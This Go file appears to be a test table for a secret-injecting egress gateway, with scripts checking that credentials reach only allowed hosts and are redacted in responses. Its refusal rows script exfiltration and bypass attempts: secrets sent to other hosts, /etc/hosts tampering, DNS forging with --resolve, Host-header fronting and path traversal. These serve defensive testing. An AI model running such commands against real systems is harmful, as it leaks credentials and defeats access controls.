package egress

// use is one way in which a secret travels, or must not.
type use struct {
	id     string
	what   string // as in the threat model
	in     scene
	script string // as of an evasion

	// Texts with {NAME}, {NAME:form} and {NAME:hole} in them: a secret's value,
	// the value in some form, its placeholder. An element of arrives holds of
	// one arrival, all its parts between "&&".
	arrives []string
	prints  []string
	absent  []string // what no arrival has
	silent  bool     // no request arrives at all
}

const (
	vault     scene = "vault"      // secrets and an allow-list
	vaultOpen scene = "vault-open" // secrets and the open internet
)

// uses are all rows about secrets. That no value is printed, and that none
// arrives anywhere but at its hosts, is checked of each.
func uses() []use {
	var all []use
	for _, some := range [][]use{carryRows, refuseRows, redactRows} {
		all = append(all, some...)
	}
	return all
}

// Where a value takes its placeholder's place.
var carryRows = []use{
	{id: "in-header", what: "header, from every program that people use", in: vault, script: `#!
url=https://api.atoll.test/from; export GIT_TERMINAL_PROMPT=0
curl -s -m 60 -H "Authorization: Bearer $KEY" $url/curl
wget -qO- -T 60 -t 1 --header "X-Key: $KEY" $url/wget
python3 -c 'import os, urllib.request as u; u.urlopen(u.Request("'$url'/python", headers={"X-Key": os.environ["KEY"]}), timeout=60).read()'
timeout 60 node -e 'fetch("'$url'/node", {headers: {"X-Key": process.env.KEY}}).then((r) => r.text())'
timeout 60 deno eval 'await (await fetch("'$url'/deno", {headers: {"X-Key": Deno.env.get("KEY")}})).text()'
timeout 60 git -c http.extraHeader="X-Key: $KEY" ls-remote $url/git 2>/dev/null
sudo -n curl -s -m 60 -H "X-Key: $KEY" $url/root; true`,
		arrives: []string{
			"/from/curl && Authorization: Bearer {KEY}", "/from/wget && X-Key: {KEY}", "/from/python && X-Key: {KEY}", "/from/node && X-Key: {KEY}",
			"/from/deno && X-Key: {KEY}", "/from/git && X-Key: {KEY}", "/from/root && X-Key: {KEY}",
		}},
	{id: "in-basic", what: "Basic credentials, decoded and encoded again", in: vault, script: `#!
curl -s -m 60 -u "user:$KEY" https://api.atoll.test/basic`, arrives: []string{"/basic && Authorization: Basic {KEY:basic}"}},
	{id: "in-url", what: "query and path", in: vault, script: `#!
curl -s -m 60 "https://api.atoll.test/bot$KEY/send?a=1&key=$KEY&b=2"`, arrives: []string{"/bot{KEY}/send?a=1&key={KEY}&b=2"}},
	{id: "in-cookie", what: "cookies", in: vault, script: `#!
curl -s -m 60 -b "a=1; session=$KEY; b=2" https://api.atoll.test/cookie`, arrives: []string{"/cookie && a=1; session={KEY}; b=2"}},
	{id: "in-json", what: "JSON, escaped as JSON needs it", in: vault, script: `#!
curl -s -m 60 --json "{\"key\": \"$ODD\", \"n\": 1}" https://api.atoll.test/json`, arrives: []string{`/json && {"key": {ODD:json}, "n": 1}`}},
	{id: "in-form", what: "forms, escaped as they need it", in: vault, script: `#!
curl -s -m 60 -d a=1 --data-urlencode "key=$ODD" https://api.atoll.test/form`, arrives: []string{"/form && a=1&key={ODD:form}"}},
	{id: "in-multipart", what: "multipart bodies and text", in: vault, script: `#!
curl -s -m 60 -F "key=$KEY" -F a=1 https://api.atoll.test/multipart
curl -s -m 60 -H 'Content-Type: text/plain' --data-binary "the key is $KEY." https://api.atoll.test/text`,
		arrives: []string{"/multipart && {KEY}\r\n", "/text && the key is {KEY}."}},
	{id: "in-gzip", what: "compressed bodies", in: vault, script: `#!
printf '{"key": "%s"}' "$KEY" | gzip | curl -s -m 60 -H 'Content-Type: application/json' -H 'Content-Encoding: gzip' --data-binary @- https://api.atoll.test/gzip`,
		arrives: []string{`/gzip && {"key": "{KEY}"}`}},
	{id: "in-pieces", what: "placeholders cut by chunks, records and packets", in: vault, script: `
key = os.environ["KEY"].encode()
body = b'{"pad": "' + b"x" * 40000 + b'", "key": "' + key + b'"}'
s = tls(tcp(API, 443), API, ["http/1.1"])
head = http("POST /pieces HTTP/1.1", "Host: " + API, "Content-Type: application/json", "Transfer-Encoding: chunked", "X-Key: ")[:-4]
for b in head + key + b"\r\n\r\n":
    s.send(bytes([b]))
for i in range(0, len(body), 20011):
    s.send(b"%x\r\n" % len(body[i : i + 20011]) + body[i : i + 20011] + b"\r\n")
say(s, b"0\r\n\r\n")
print(hear(s)[:100])
s = tls(tcp(API, 443), API, ["http/1.1"])
say(s, http("POST /bits HTTP/1.1", "Host: " + API, "Content-Type: text/plain", "Transfer-Encoding: chunked"))
for b in b"key=" + key + b";":
    s.send(b"1\r\n" + bytes([b]) + b"\r\n")
say(s, b"0\r\n\r\n")
print(hear(s)[:100])`, arrives: []string{`/pieces && X-Key: {KEY} && "key": "{KEY}"}`, "/bits && key={KEY};"}},
	{id: "in-http2", what: "HTTP/2: header and body, streams side by side", in: vault, script: `#!
curl -s -m 60 --http2 -H "X-Key: $KEY" --json "{\"key\": \"$KEY\"}" https://api.atoll.test/http2
timeout 60 node -e '
const s = require("http2").connect("https://api.atoll.test"), key = process.env.KEY;
s.on("error", (e) => console.log(e.message));
let open = 8;
for (let n = 0; n < 8; n++) {
  const r = s.request({":path": "/stream" + n, ":method": "POST", "x-key": key, "content-type": "text/plain"});
  r.on("close", () => --open || s.close()).on("error", () => {}).resume();
  r.write(key.slice(0, 20)); setTimeout(() => r.end(key.slice(20) + "."), 20);
}'`, arrives: []string{"/http2 && HTTP/2.0 && X-Key: {KEY}", `/http2 && {"key": "{KEY}"}`, "/stream0 && HTTP/2.0 && X-Key: {KEY} && \n{KEY}.", "/stream7 && X-Key: {KEY} && \n{KEY}."}},
	{id: "in-grpc", what: "gRPC's shape: HTTP/2 with trailers both ways", in: vault, script: `#!
timeout 60 node -e '
const s = require("http2").connect("https://api.atoll.test"), key = process.env.KEY;
s.on("error", (e) => console.log(e.message));
const r = s.request({":path": "/grpc", ":method": "POST", "content-type": "application/grpc", te: "trailers", authorization: "Bearer " + key, "x-value": key}, {waitForTrailers: true});
r.on("trailers", (t) => console.log("status", t["grpc-status"], t["grpc-message"])).on("close", () => s.close()).resume();
r.end(Buffer.from([0, 0, 0, 0, 3, 1, 2, 3]));'`,
		arrives: []string{"/grpc && HTTP/2.0 && Authorization: Bearer {KEY} && \x00\x00\x00\x00\x03\x01\x02\x03"}, prints: []string{"status 0 {KEY:hole}"}},
	{id: "in-websocket", what: "text of WebSockets, and back", in: vault, script: `#!
timeout 60 deno eval '
const ws = new WebSocket("wss://api.atoll.test/ws"), key = Deno.env.get("KEY");
ws.onopen = () => { ws.send("key " + key + "."); ws.send("x".repeat(70000) + key); };
let n = 0;
ws.onmessage = (m) => { console.log(m.data.slice(-80)); if (++n == 2) ws.close(); };
ws.onerror = (e) => { console.log("error", e.message); Deno.exit(1); };'`,
		arrives: []string{`message "key {KEY}."`, `xxx{KEY}"`}, prints: []string{"key {KEY:hole}.", "xxx{KEY:hole}"}},
	{id: "sign-aws", what: "AWS Signature Version 4: signed again, the key never travels", in: vault, script: `
import datetime, hashlib, hmac
key_id, key = os.environ["AWS_ACCESS_KEY_ID"], os.environ["AWS_SECRET_ACCESS_KEY"]
now = datetime.datetime.now(datetime.timezone.utc)
day, stamp, body = now.strftime("%Y%m%d"), now.strftime("%Y%m%dT%H%M%SZ"), b"the object"
digest = hashlib.sha256(body).hexdigest()
names = "host;x-amz-content-sha256;x-amz-date"
canonical = f"PUT\n/bucket/key\n\nhost:s3.atoll.test\nx-amz-content-sha256:{digest}\nx-amz-date:{stamp}\n\n{names}\n{digest}"
scope = f"{day}/eu-west-1/s3/aws4_request"
text = f"AWS4-HMAC-SHA256\n{stamp}\n{scope}\n" + hashlib.sha256(canonical.encode()).hexdigest()
k = ("AWS4" + key).encode()
for part in (day, "eu-west-1", "s3", "aws4_request"):
    k = hmac.new(k, part.encode(), hashlib.sha256).digest()
mine = hmac.new(k, text.encode(), hashlib.sha256).hexdigest()
s = tls(tcp("s3.atoll.test", 443), "s3.atoll.test")
say(s, http("PUT /bucket/key HTTP/1.1", "Host: s3.atoll.test", "X-Amz-Content-Sha256: " + digest, "X-Amz-Date: " + stamp, "Content-Length: %d" % len(body),
    f"Authorization: AWS4-HMAC-SHA256 Credential={key_id}/{scope}, SignedHeaders={names}, Signature={mine}", body=body))
print(hear(s)[:200])`, arrives: []string{"/bucket/key && Credential=AKIAREALREALREALREAL/ && Signature="}, absent: []string{"{AWS_SECRET_ACCESS_KEY}", "{AWS_SECRET_ACCESS_KEY:hole}"}},
	{id: "sign-hmac", what: "HMAC of a body: computed by the gateway, the key never travels", in: vault, script: `#!
curl -s -m 60 -H "X-Signature: $HOOK" --json '{"event": 1}' https://sign.atoll.test/hook`,
		arrives: []string{`/hook && X-Signature: sha256={HOOK:hmac}`}, absent: []string{"{HOOK}", "{HOOK:hole}"}},
}

// Where a value must not go.
var refuseRows = []use{
	{id: "no-plain", what: "over plain HTTP", in: vault, script: `#!
curl -s -m 60 -H "X-Key: $KEY" http://api.atoll.test/plain; curl -s -m 60 "http://api.atoll.test/plain?key=$KEY"`,
		prints: []string{"SECRET_NEEDS_TLS"}, silent: true},
	{id: "no-untrusted", what: "to a server whose certificate nobody vouches for", in: vault, script: `#!
curl -sk -m 60 -w '%{http_code}' -H "X-Key: $KEY" https://untrusted.atoll.test/`, prints: []string{"502"}, silent: true},
	{id: "no-other-name", what: "to a server whose certificate is for another name", in: vault, script: `#!
curl -sk -m 60 -w '%{http_code}' -H "X-Key: $KEY" https://othercert.atoll.test/`, prints: []string{"502"}, silent: true},
	{id: "no-forged", what: "to an address that the guest chose for the host, by its hosts file or by connecting to it", in: vaultOpen, script: `#!
curl -sk -m 60 -H "X-Key: $KEY" --resolve api.atoll.test:443:93.184.215.66 https://api.atoll.test/forged
curl -sk -m 60 -H "X-Key: $KEY" --resolve 'api.atoll.test:443:[2606:2800:21f:cb07::66]' https://api.atoll.test/forged
echo '93.184.215.66 api.atoll.test' | sudo -n tee -a /etc/hosts >/dev/null
curl -sk -m 60 -H "X-Key: $KEY" https://api.atoll.test/forged
grep -v '93.184.215.66' /etc/hosts > /tmp/hosts; sudo -n sh -c 'cat /tmp/hosts > /etc/hosts'`},
	{id: "no-elsewhere", what: "to a host that is not one of the secret's: the placeholder stays", in: vault, script: `#!
curl -s -m 60 -H "X-Key: $KEY" http://raw.atoll.test/elsewhere
curl -s -m 60 -H "X-Key: $KEY" https://tenant.atoll.test/elsewhere
curl -s -m 60 -L -H "X-Key: $KEY" 'https://api.atoll.test/to?u=https://tenant.atoll.test/redirected'`,
		arrives: []string{"raw && {KEY:hole}", "/elsewhere && host=tenant.atoll.test && X-Key: {KEY:hole}", "/redirected && X-Key: {KEY:hole}", "/to?u && X-Key: {KEY}"}},
	{id: "no-other-host", what: "to another host behind the same connection", in: vault, script: `#!
curl -s -m 60 --http1.1 -H "X-Key: $KEY" -H 'Host: tenant.atoll.test' https://api.atoll.test/fronted
curl -s -m 60 --http2 -H "X-Key: $KEY" -H 'Host: tenant.atoll.test' https://api.atoll.test/fronted`, silent: true},
	{id: "no-part", what: "in parts of a request that the secret leaves out", in: vault, script: `#!
curl -s -m 60 "https://api.atoll.test/part?key=$ONLY_HEADER" -d "key=$ONLY_HEADER"
curl -s -m 60 -H "X-Key: $ONLY_HEADER" https://api.atoll.test/header`,
		arrives: []string{"/header && X-Key: {ONLY_HEADER}"}, absent: []string{"?key={ONLY_HEADER}", "\nkey={ONLY_HEADER}"}},
	{id: "no-method", what: "in requests whose method or path the secret leaves out", in: vault, script: `#!
for url in https://api.atoll.test/v2/x https://api.atoll.test/v1/../v2/x https://api.atoll.test/v1/%2e%2e/v2/x; do curl -s -m 60 --path-as-is -H "X-Key: $READER" $url; done
curl -s -m 60 -X POST -H "X-Key: $READER" https://api.atoll.test/v1/posted
curl -s -m 60 -H "X-Key: $READER" https://api.atoll.test/v1/read`,
		arrives: []string{"GET /v1/read && X-Key: {READER}"}, absent: []string{"v2/x&&{READER}", "/v1/posted&&{READER}"}},
	{id: "no-rival", what: "beside other credentials, where the secret is exclusive", in: vault, script: `#!
curl -s -m 60 -H "Authorization: Bearer somebody-elses" https://exclusive.atoll.test/rival
curl -s -m 60 -u me:somebody-elses https://exclusive.atoll.test/rival
curl -s -m 60 -H "Authorization: Bearer $EXCLUSIVE" https://exclusive.atoll.test/own`,
		arrives: []string{"/own && Authorization: Bearer {EXCLUSIVE}"}, absent: []string{"/rival"}},
}

// Where the placeholder takes the value's place in what comes back.
var redactRows = []use{
	{id: "out-body", what: "bodies, in one piece, in chunks, slowly, and of errors", in: vault, script: `#!
for as in raw chunked slow error; do curl -s -m 60 -H "X-Value: $KEY" "https://api.atoll.test/reflect?as=$as"; done`,
		arrives: []string{"as=raw && X-Value: {KEY}"}, prints: []string{"begin {KEY:hole} end\nbegin {KEY:hole} end\nbegin {KEY:hole} end\nbad key {KEY:hole}"}},
	{id: "out-head", what: "headers, cookies, locations and trailers", in: vault, script: `#!
curl -s -m 60 -I -H "X-Value: $KEY" 'https://api.atoll.test/reflect?as=header'
for as in header cookie location trailer; do curl -s -i -m 60 --http1.1 -H "X-Value: $KEY" "https://api.atoll.test/reflect?as=$as"; done`,
		prints: []string{"{KEY:hole}", "session={KEY:hole}", "key={KEY:hole}"}},
	{id: "out-coding", what: "compressed bodies: gzip, deflate, Brotli, Zstandard", in: vault, script: `#!
for as in gzip deflate raw-deflate br zstd; do
  printf "$as: "; curl -s -m 60 --compressed -H "X-Value: $KEY" "https://api.atoll.test/reflect?as=$as"
done`,
		prints: []string{"gzip: begin {KEY:hole} end", "\ndeflate: begin {KEY:hole} end", "raw-deflate: begin {KEY:hole} end", "br: begin {KEY:hole} end", "zstd: begin {KEY:hole} end"}},
	{id: "out-spelling", what: "base64, percent and JSON spellings", in: vault, script: `#!
get() { printf "$1: "; curl -s -m 60 -H "X-Value: $KEY" "https://api.atoll.test/reflect?as=$1" | tee /dev/stderr; }
get base64 | sed 's/.*: //' | base64 -d | sed 's/^/base64: /'
get base64url | sed 's/.*: //' | tr _- /+ | base64 -d 2>/dev/null | sed 's/^/base64url: /'
get percent | python3 -c 'import sys, urllib.parse as u; print(u.unquote(sys.stdin.read()))'
get json | sed 's/^json: //' | jq -r '"json: " + .key'
get json-escaped | sed 's/^json-escaped: //' | jq -r '"json-escaped: " + .key'`,
		prints: []string{"base64: begin {KEY:hole} end", "base64url: begin {KEY:hole} end", "percent: begin {KEY:hole} end", "json: begin {KEY:hole} end", "json-escaped: begin {KEY:hole} end"}},
	{id: "out-json", what: "a value that JSON has to escape", in: vault, script: `#!
curl -s -m 60 -H "X-Value: $ODD" "https://api.atoll.test/reflect?as=json" | jq -r .key`, prints: []string{"begin {ODD:hole} end"}},
	{id: "out-events", what: "server-sent events, as they come", in: vault, script: `#!
curl -sN -m 60 -H "X-Value: $KEY" "https://api.atoll.test/reflect?as=sse"`, prints: []string{"data: {KEY:hole}\n\ndata: done"}},
	{id: "out-http2", what: "HTTP/2 and its trailers", in: vault, script: `#!
for as in raw slow gzip trailer header; do curl -s -i -m 60 --http2 --compressed -H "X-Value: $KEY" "https://api.atoll.test/reflect?as=$as" | sed "s/^begin/$as: begin/"; done`,
		prints: []string{"raw: begin {KEY:hole} end", "slow: begin {KEY:hole} end", "gzip: begin {KEY:hole} end", "x-reflected: {KEY:hole}"}},
	{id: "out-words", what: "where only the protocol's own words belong: names, reasons, the heads of messages, behind an end", in: vault, script: `#!
for as in name nothing message; do curl -s -i -m 60 --http2 -H "X-Value: $KEY" "https://api.atoll.test/reflect?as=$as"; done
for as in status behind; do curl -s -i -m 60 --http1.1 -H "X-Value: $KEY" "https://api.atoll.test/reflect?as=$as"; done
curl -s -i -m 60 --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' -H "X-Value: $KEY" 'https://api.atoll.test/reflect?as=reason'`,
		arrives: []string{"as=name", "as=nothing", "as=message", "as=status", "as=behind", "as=reason"}, prints: []string{"see the names", "x-reflected: {KEY:hole}", "UPSTREAM_FAILED", "101 Switching Protocols"}},
	{id: "out-store", what: "a value that was stored and is read later", in: vault, script: `#!
curl -s -m 60 -X PUT -H 'Content-Type: text/plain' --data-binary "note: $KEY." https://api.atoll.test/notes/one
curl -s -m 60 https://api.atoll.test/notes/one`, arrives: []string{"PUT /notes/one && note: {KEY}."}, prints: []string{"note: {KEY:hole}."}},
	{id: "out-range", what: "a stored value that is read in parts (Range)", in: vault, script: `#!
curl -s -m 60 -X PUT -H 'Content-Type: text/plain' --data-binary "$KEY" https://api.atoll.test/notes/parts
for n in $(seq 0 4 60); do curl -s -m 60 -r $n-$((n+3)) https://api.atoll.test/notes/parts; done`, arrives: []string{"PUT /notes/parts && {KEY}"}},
}
